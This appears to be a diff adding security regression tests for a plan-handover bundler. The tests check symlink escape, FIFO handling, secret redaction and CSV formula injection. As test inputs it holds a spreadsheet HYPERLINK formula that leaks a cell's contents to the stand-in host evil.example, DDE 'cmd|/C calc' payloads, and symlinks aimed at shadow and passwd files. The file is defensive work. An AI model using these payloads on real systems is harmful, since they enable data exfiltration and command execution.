@@ -1,0 +1,263 @@
+"""Regressions from a hostile use of pactkeeper: the bundle's documents and CSV files,
+the secret guard, the outbox, and plan text in messages.
+
+Each test is named after what went wrong; the bundle is built by the real code from a
+plan folder on disk and read back from the zip.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from config.load import load_plan
+from tests.engine import make_engine, moment
+from tests.support import dump, minimal_data
+from worker import handover
+from worker.engine import Engine, register
+
+BUILT = moment("2027-03-02 12:00")
+
+
+def plan_folder(tmp_path: Path, documents: list[str], **changes: Any) -> Path:
+    data = minimal_data()
+    data["handover"] = {"at": "2027-06-28T10:00", "documents": documents}
+    data.update(changes)
+    folder = tmp_path / "plan"
+    (folder / "docs").mkdir(parents=True, exist_ok=True)
+    (folder / "plan.yaml").write_text(dump(data))
+    return folder
+
+
+def bundle_files(tmp_path: Path, folder: Path, **settings: Any) -> dict[str, bytes]:
+    """The files of the bundle of ``folder/plan.yaml``, by their path under ``data/``."""
+    plan = load_plan(folder / "plan.yaml")
+    engine = make_engine(tmp_path, **settings)
+    register(engine, plan, moment("2027-01-01 00:00"))
+    return unzip(handover.build_bundle(engine, plan, BUILT))
+
+
+def unzip(bundle: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
+        return {
+            name.split("/data/", 1)[1]: archive.read(name)
+            for name in archive.namelist()
+            if "/data/" in name
+        }
+
+
+def report_of(files: dict[str, bytes]) -> str:
+    return files["handover.md"].decode()
+
+
+# -- #1: documents never follow a link out of the plan's folder ---------------------------
+
+
+def test_documents_never_follow_a_symlink_out_of_the_plan_folder_when_the_bundle_is_built(
+    tmp_path: Path,
+) -> None:
+    outside = tmp_path / "server"
+    outside.mkdir()
+    (outside / "shadow").write_text("root:SECRET-HASH:20228:0:99999\n")
+    (outside / "hostname").write_text("server-name\n")
+    folder = plan_folder(tmp_path, [])
+    (folder / "docs" / "passwd.md").symlink_to(outside / "shadow")
+    (folder / "docs" / "etc").symlink_to(outside, target_is_directory=True)
+    (folder / "docs" / "real.md").write_text("# Kept\n")
+    (folder / "docs" / "alias.md").symlink_to("real.md")  # a link that stays inside is fine
+    documents = ["docs/passwd.md", "docs/etc/hostname", "docs/etc/shadow", "docs/alias.md"]
+    plan_folder(tmp_path, documents)
+
+    files = bundle_files(tmp_path, folder)
+
+    everything = b"".join(files.values())
+    assert b"SECRET-HASH" not in everything and b"server-name" not in everything
+    assert sorted(name for name in files if name.startswith("documents/")) == [
+        "documents/docs/alias.md"
+    ]
+    assert files["documents/docs/alias.md"] == b"# Kept\n"
+    report = report_of(files)
+    for name in ("docs/passwd.md", "docs/etc/hostname", "docs/etc/shadow"):
+        assert (
+            f"The document {name} was left out because it is not a file inside the plan's folder"
+            in report
+        )
+    assert "`documents/docs/alias.md`" in report
+
+
+def test_a_link_put_in_place_of_a_checked_folder_is_refused_when_read(tmp_path: Path) -> None:
+    outside = tmp_path / "server"
+    outside.mkdir()
+    (outside / "notes.md").write_text("not yours\n")
+    folder = tmp_path / "plan"
+    (folder / "docs").mkdir(parents=True)
+    (folder / "docs" / "notes.md").write_text("ours\n")
+    assert handover.read_document(folder, "docs/notes.md") == b"ours\n"
+    # The folder swapped for a link between the check and the read: the read refuses it.
+    (folder / "docs" / "notes.md").unlink()
+    (folder / "docs").rmdir()
+    (folder / "docs").symlink_to(outside, target_is_directory=True)
+    with pytest.raises(handover.Outside):
+        handover.read_document(folder, "docs/notes.md")
+    with pytest.raises(handover.Outside):
+        handover._read_inside(folder.resolve(), ("docs", "notes.md"))
+
+
+def test_a_fifo_among_the_documents_is_left_out_without_blocking(tmp_path: Path) -> None:
+    folder = tmp_path / "plan"
+    (folder / "docs").mkdir(parents=True)
+    os.mkfifo(folder / "docs" / "pipe.md")
+    with pytest.raises(handover.Outside):
+        handover.read_document(folder, "docs/pipe.md")
+
+
+# -- #4: a document missing when the bundle is made is a gap, not an error ----------------
+
+
+def test_a_document_missing_when_the_bundle_is_built_is_a_gap_named_in_the_report(
+    tmp_path: Path,
+) -> None:
+    folder = plan_folder(tmp_path, ["docs/beheer.md", "docs/kept.md"])
+    (folder / "docs" / "beheer.md").write_text("# Beheer\n")
+    (folder / "docs" / "kept.md").write_text("# Kept\n")
+    plan = load_plan(folder / "plan.yaml")
+    engine = make_engine(tmp_path)
+    register(engine, plan, moment("2027-01-01 00:00"))
+    (folder / "docs" / "beheer.md").unlink()  # deleted after the plan was registered
+
+    files = unzip(handover.build_bundle(engine, plan, BUILT))
+
+    assert "documents/docs/beheer.md" not in files
+    assert files["documents/docs/kept.md"] == b"# Kept\n"
+    report = report_of(files)
+    assert (
+        "The document docs/beheer.md was listed in the plan but was missing when this bundle"
+        " was made." in report
+    )
+    assert "`documents/docs/kept.md`" in report and "`documents/docs/beheer.md`" not in report
+
+
+def test_the_dutch_report_names_each_left_out_document_with_its_reason(tmp_path: Path) -> None:
+    folder = plan_folder(tmp_path, ["docs/weg.md", "docs/geheim.md"], language="nl")
+    (folder / "docs" / "geheim.md").write_text("sleutel: test-signing-key\n")
+    (folder / "docs" / "weg.md").write_text("x")
+    plan = load_plan(folder / "plan.yaml")
+    (folder / "docs" / "weg.md").unlink()
+    engine = make_engine(tmp_path)
+    report = report_of(unzip(handover.build_bundle(engine, plan, BUILT)))
+    assert (
+        "Het document docs/weg.md stond in het plan, maar ontbrak toen deze bundel werd gemaakt."
+        in report
+    )
+    assert "Het document docs/geheim.md is weggelaten omdat het een geheim bevat" in report
+
+
+# -- #24: a document left out for a secret is reported as such ---------------------------
+
+
+def test_a_document_left_out_for_a_secret_is_reported_as_holding_a_secret_not_as_missing(
+    tmp_path: Path,
+) -> None:
+    folder = plan_folder(tmp_path, ["docs/notes.md"])
+    (folder / "docs" / "notes.md").write_text("The key is test-signing-key, keep it safe.\n")
+    report = report_of(bundle_files(tmp_path, folder))
+    assert "The document docs/notes.md was left out because it contains a secret" in report
+    assert "missing when this bundle was made" not in report
+
+
+# -- #6: a secret given as NAME_FILE is known to the guard --------------------------------
+
+
+def test_a_secret_supplied_as_name_file_keeps_its_document_out_of_the_bundle(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    hook = "https://hooks.slack.example/services/T0001/B0001/FILESECRETVALUE42"
+    secret_file = tmp_path / "secrets" / "slack"
+    secret_file.parent.mkdir()
+    secret_file.write_text(hook + "\n")
+    monkeypatch.delenv("MY_SLACK", raising=False)
+    monkeypatch.setenv("MY_SLACK_FILE", str(secret_file))
+    channels = {"email": {}, "slack": {"webhook": "env:MY_SLACK"}}
+    data = minimal_data()
+    folder = plan_folder(
+        tmp_path, ["docs/notes.md"], communication={**data["communication"], "channels": channels}
+    )
+    (folder / "docs" / "notes.md").write_text(f"Our Slack hook is {hook}\n")
+    files = bundle_files(tmp_path, folder)
+    assert b"FILESECRETVALUE42" not in b"".join(files.values())
+    assert "documents/docs/notes.md" not in files
+    assert "docs/notes.md was left out because it contains a secret" in report_of(files)
+
+
+def test_known_secrets_reads_name_and_name_file_like_the_connectors(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "token").write_text("from-a-file-0123\n")
+    monkeypatch.setenv("PLAN_TOKEN_FILE", str(tmp_path / "token"))
+    monkeypatch.setenv("PLAN_HOOK", "from-the-environment-4567")
+    monkeypatch.delenv("PLAN_TOKEN", raising=False)
+    monkeypatch.delenv("PLAN_GONE", raising=False)
+    monkeypatch.delenv("PLAN_GONE_FILE", raising=False)
+    channels = {
+        "email": {},
+        "slack": {"webhook": "env:PLAN_HOOK"},
+        "telegram": {"token": "env:PLAN_TOKEN", "chat_id": "-100"},
+        "teams": {"webhook": "env:PLAN_GONE"},
+    }
+    communication = {**minimal_data()["communication"], "channels": channels}
+    folder = plan_folder(tmp_path, [], communication=communication)
+    plan = load_plan(folder / "plan.yaml")
+    engine: Engine = make_engine(tmp_path)
+    secrets = handover.known_secrets(engine.settings, plan)
+    assert "from-a-file-0123" in secrets and "from-the-environment-4567" in secrets
+
+
+# -- #14: no formula from a note or a name in the bundle's CSV files ----------------------
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&B2,"Click for details")',
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+]
+
+
+def test_csv_cells_that_start_a_formula_are_kept_as_text(tmp_path: Path) -> None:
+    from worker.checkins import record_checkin
+
+    data = minimal_data()
+    data["people"][1]["name"] = "=cmd|' /C calc'!A0"
+    data["people"][0]["phone"] = "+31612345678"
+    data["checkins"] = {"every": "weekly", "on": "monday", "grace": "2d", "who": ["tim"]}
+    folder = tmp_path / "plan"
+    folder.mkdir()
+    (folder / "plan.yaml").write_text(dump(data))
+    plan = load_plan(folder / "plan.yaml")
+    engine = make_engine(tmp_path)
+    register(engine, plan, moment("2027-01-01 00:00"))
+    mondays = ["2027-01-04", "2027-01-11", "2027-01-18", "2027-01-25", "2027-02-01", "2027-02-08"]
+    for day, note in zip(mondays, FORMULAS, strict=True):
+        record_checkin(engine, plan, "tim", moment(f"{day} 12:00"), "need_help", note, source="t")
+    files = unzip(handover.build_bundle(engine, plan, moment("2027-02-20 12:00")))
+
+    for name in ("checkins.csv", "people.csv", "deliveries.csv", "milestones.csv"):
+        text = files[name].decode("utf-8-sig")
+        for row in csv.reader(io.StringIO(text)):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    checkins = csv.DictReader(io.StringIO(files["checkins.csv"].decode("utf-8-sig")))
+    notes = [row["note"] for row in checkins]
+    # The note is kept whole, only marked as text; the checkins' whitespace rules still apply.
+    assert "'" + FORMULAS[0] in notes and "'" + FORMULAS[1] in notes and "'+1+1" in notes
+    people = list(csv.DictReader(io.StringIO(files["people.csv"].decode("utf-8-sig"))))
+    assert {p["name"] for p in people} == {"Pia", "'=cmd|' /C calc'!A0"}
+    assert {p["phone"] for p in people} == {"'+31612345678", ""}
